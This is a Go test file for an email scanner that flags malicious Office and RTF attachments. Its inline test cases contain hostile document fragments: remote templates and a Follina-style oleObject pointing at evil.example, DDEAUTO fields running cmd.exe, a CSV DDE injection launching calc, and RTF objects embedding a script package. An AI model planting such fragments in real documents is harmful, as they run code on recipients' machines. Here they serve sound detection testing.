package macro

import (
	"archive/zip"
	"bytes"
	"encoding/hex"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"postern/internal/corpus"
	"postern/internal/mail"
	"postern/internal/relay/scan"
)

// document reads a file as parse does: an OOXML document's members are parts.
func document(t testing.TB, file string) []mail.Part {
	t.Helper()
	octets, err := os.ReadFile(file)
	if err != nil {
		t.Skipf("no test data: %v", err)
	}
	return parts("2", filepath.Base(file), octets)
}

func parts(path, name string, octets []byte) []mail.Part {
	out := []mail.Part{{Path: path, Name: name, Data: octets, Size: int64(len(octets))}}
	z, err := zip.NewReader(bytes.NewReader(octets), int64(len(octets)))
	if err != nil {
		return out
	}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			continue
		}
		inner, _ := io.ReadAll(io.LimitReader(r, 8<<20))
		r.Close()
		base := path + "/" + name + "/" + f.Name
		if path != "2" {
			base = path + "/" + f.Name
		}
		p := mail.Part{Path: base, Name: filepath.Base(f.Name), Data: inner, Size: int64(len(inner))}
		out = append(out, p)
		if strings.HasPrefix(string(inner), "PK\x03\x04") {
			out = append(out, parts(base, filepath.Base(f.Name), inner)[1:]...)
		}
	}
	return out
}

func rules(t testing.TB, parts []mail.Part) (rules string, worst mail.Verdict) {
	t.Helper()
	found, err := new(Scanner).Scan(t.Context(), &mail.Message{Parts: parts}, scan.About{})
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	points := map[mail.Verdict]int{}
	for _, f := range found {
		names = append(names, strings.TrimPrefix(f.Rule, "macro."))
		points[f.Class] += f.Score
	}
	switch {
	case points[mail.Malware] >= 50:
		worst = mail.Malware
	case points[mail.Suspicious] >= 50:
		worst = mail.Suspicious
	default:
		worst = mail.Clean
	}
	return strings.Join(names, " "), worst
}

func TestSamples(t *testing.T) {
	for file, want := range map[string]mail.Verdict{
		"eicar-standard-antivirus-test-files/eicar-excel-dde-cmd-powershell-echo.xlsx":        mail.Malware,
		"eicar-standard-antivirus-test-files/eicar-excel-macro-cmd-echo.xls":                  mail.Malware,
		"eicar-standard-antivirus-test-files/eicar-excel-macro-cmd-echo.xlsm":                 mail.Malware,
		"eicar-standard-antivirus-test-files/eicar-excel-macro-write-file.xls":                mail.Malware,
		"eicar-standard-antivirus-test-files/eicar-excel-macro-write-file.xlsm":               mail.Malware,
		"eicar-standard-antivirus-test-files/eicar-powerpoint-action-powershell-echo.ppt":     mail.Malware,
		"eicar-standard-antivirus-test-files/eicar-powerpoint-action-powershell-echo.pptx":    mail.Malware,
		"eicar-standard-antivirus-test-files/eicar-word-macro-cmd-echo.docm":                  mail.Malware,
		"eicar-standard-antivirus-test-files/eicar-word-macro-powershell-echo.doc":            mail.Malware,
		"eicar-standard-antivirus-test-files/eicar-word-macro-write-file.docm":                mail.Malware,
		"eicar-standard-antivirus-test-files/eicar-word-macro-msgbox.doc":                     mail.Suspicious,
		"eicar-standard-antivirus-test-files/eicar-word-macro-msgbox.docm":                    mail.Suspicious,
		"oletools/tests/test-data/olevba/sample_with_vba.ppt":                                 mail.Clean,
		"oletools/tests/test-data/encrypted/encrypted.doc":                                    mail.Suspicious,
		"oletools/tests/test-data/encrypted/encrypted.xlsx":                                   mail.Suspicious,
		"oletools/tests/test-data/encrypted/encrypted.docm":                                   mail.Suspicious,
		"oletools/tests/test-data/encrypted/encrypted.ppt":                                    mail.Suspicious,
		"oletools/tests/test-data/encrypted/autostart-encrypt-standardpassword.xls":           mail.Suspicious,
		"oletools/tests/test-data/encrypted/dde-test-encrypt-standardpassword.xls":            mail.Suspicious,
		"oletools/tests/test-data/excel4-macros/excel4_sample_macro.xltm":                     mail.Malware,
		"oletools/tests/test-data/ooxml/dde-in-excel2003.xml":                                 mail.Malware,
		"oletools/tests/test-data/ooxml/harmless-clean-2003.xml":                              mail.Clean,
		"oletools/tests/test-data/msodde/harmless-clean.doc":                                  mail.Clean,
		"oletools/tests/test-data/msodde/harmless-clean.docx":                                 mail.Clean,
		"oletools/tests/test-data/msodde/RTF-Spec-1.7.rtf":                                    mail.Clean,
		"oletools/tests/test-data/msodde/dde-test.xlsm":                                       mail.Malware,
		"oletools/tests/test-data/msodde/dde-test.xlsx":                                       mail.Malware,
		"oletools/tests/test-data/oleobj/sample_with_lnk_file.doc":                            mail.Malware,
		"oletools/tests/test-data/oleobj/sample_with_lnk_to_calc.doc":                         mail.Malware,
		"oletools/tests/test-data/oleobj/sample_with_calc_embedded.doc":                       mail.Malware,
		"oletools/tests/test-data/oleobj/external_link/sample_with_external_link_to_doc.docx": mail.Malware,
		"oletools/tests/test-data/oleobj/external_link/sample_with_external_link_to_doc.xlsm": mail.Malware,
		"strelka/src/python/strelka/tests/fixtures/test_pe_object.doc":                        mail.Malware,
		"strelka/src/python/strelka/tests/fixtures/test.docx":                                 mail.Clean,
		"strelka/src/python/strelka/tests/fixtures/test.xls":                                  mail.Malware,
	} {
		t.Run(filepath.Base(file), func(t *testing.T) {
			got, worst := rules(t, document(t, corpus.Path(t, "attach", file)))
			if worst != want {
				t.Errorf("%s (%s), want %s", worst, got, want)
			}
			t.Log(got)
		})
	}
}

func TestSmallParts(t *testing.T) {
	rtf := func(object string) string {
		return `{\rtf1 hello{\object\objemb\objupdate{\*\objdata ` + hex.EncodeToString([]byte(object)) + `}}}`
	}
	for _, tt := range []struct{ name, path, data, want string }{
		{"a template from elsewhere", "2/a.docx/word/_rels/settings.xml.rels", `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`, "template.remote"},
		{"a template on this machine", "2/a.docx/word/_rels/settings.xml.rels", `<Relationship Type="x/attachedTemplate" Target="file:///C:\Users\Ann\T.dotx" TargetMode="External"/>`, ""},
		{"a link in the text", "2/a.docx/word/_rels/document.xml.rels", `<Relationship Type="x/hyperlink" Target="https://www.example.com/" TargetMode="External"/>`, ""},
		{"Follina", "2/a.docx/word/_rels/document.xml.rels", `<Relationship Type="x/oleObject" Target="https://evil.example/x.html!" TargetMode="External"/>`, "object.remote"},
		{"a picture by SMB", "2/a.docx/word/_rels/document.xml.rels", `<Relationship Type="x/image" Target="\\198.51.100.1\a\b.png" TargetMode="External"/>`, "image.remote"},
		{"DDE in pieces", "2/a.docx/word/document.xml", `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe</w:instrText></w:r>`, "dde"},
		{"DDE in a simple field", "2/a.docx/word/document.xml", `<w:fldSimple w:instr=' DDEAUTO "cmd"'/>`, "dde"},
		{"a page number", "2/a.docx/word/document.xml", `<w:fldChar/><w:instrText> PAGE </w:instrText><w:t>the DDE protocol</w:t>`, ""},
		{"a table with DDE", "a.csv", "a,b\n=cmd|' /C calc'!A0,1\n", "dde"},
		{"a table with bars", "a.csv", "a|b\n1|2!\n=SUM(A1)|x\n", ""},
		{"the equation editor", "a.rtf", rtf("\x01\x05\x00\x00\x02\x00\x00\x00\x0b\x00\x00\x00Equation.3\x00"), "object.equation"},
		{"a broken up equation", "a.doc", `{\rtf1{\object{\*\objdata 0105{\par}0000 02000000\~0b0000004571756174\bin0 696f6e2e3300}}}`, "object.equation"},
		{"a package with a script", "a.rtf", rtf("\x01\x05\x00\x00\x02\x00\x00\x00\x08\x00\x00\x00Package\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00a.js\x00C:\\a.js\x00"), "object.program"},
		{"an object that loads itself", "a.rtf", rtf("something"), "rtf.update"},
		{"an equation behind octets that are no UTF-8", "a.rtf", `{\rtf1 ` + strings.Repeat("\x96", 40) + `{\object{\*\OBJDATA ` + hex.EncodeToString([]byte("\x01\x05\x00\x00\x02\x00\x00\x00\x0b\x00\x00\x00Equation.3\x00")) + `}}}`, "object.equation"},
		{"plain RTF", "a.rtf", `{\rtf1\ansi hello}`, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got, _ := rules(t, []mail.Part{{Path: tt.path, Name: tt.path, Data: []byte(tt.data)}})
			if got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

// The examples of MS-OVBA §3.2.
func TestDecompress(t *testing.T) {
	for in, want := range map[string]string{
		"0119b000616263646566676800696a6b6c6d6e6f7000717273747576 2e":                                               "abcdefghijklmnopqrstuv.",
		"012fb00023616161626364658266007061676869 6a01380861 6b6c00306d6e6f70067102700410727374757610777879 7a003c": "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa",
		"0103b002614500": strings.Repeat("a", 73),
	} {
		b, err := hex.DecodeString(strings.ReplaceAll(in, " ", ""))
		if err != nil {
			t.Fatal(err)
		}
		if got := string(decompress(b, 1<<20)); got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}

func TestDecompressIsBounded(t *testing.T) {
	bomb := append([]byte{1}, bytes.Repeat([]byte{0x03, 0xb0, 0x02, 'a', 0xff, 0x0f}, 100000)...)
	if n := len(decompress(bomb, 1<<20)); n > 1<<20 {
		t.Errorf("%d octets", n)
	}
}

func FuzzLook(f *testing.F) {
	f.Add("a.doc", []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"))
	f.Add("a.rtf", []byte(`{\rtf1{\object{\*\objdata 0105}}`))
	f.Add("2/a.docx/word/document.xml", []byte(`<w:instrText>DDE`))
	f.Add("2/a.docx/_rels/x.rels", []byte(`<Relationship Target="x"`))
	f.Fuzz(func(t *testing.T, path string, d []byte) { look(&mail.Part{Path: path, Name: path, Data: d}) })
}

func FuzzDecompress(f *testing.F) {
	f.Add([]byte("\x01\x03\xb0\x02a\x45\x00"))
	f.Fuzz(func(t *testing.T, d []byte) { decompress(d, 1<<16) })
}

func BenchmarkXLS(b *testing.B) {
	p := document(b, corpus.Path(b, "attach", "eicar-standard-antivirus-test-files/eicar-excel-macro-cmd-echo.xls"))
	b.SetBytes(p[0].Size)
	for b.Loop() {
		new(Scanner).Scan(b.Context(), &mail.Message{Parts: p}, scan.About{})
	}
}
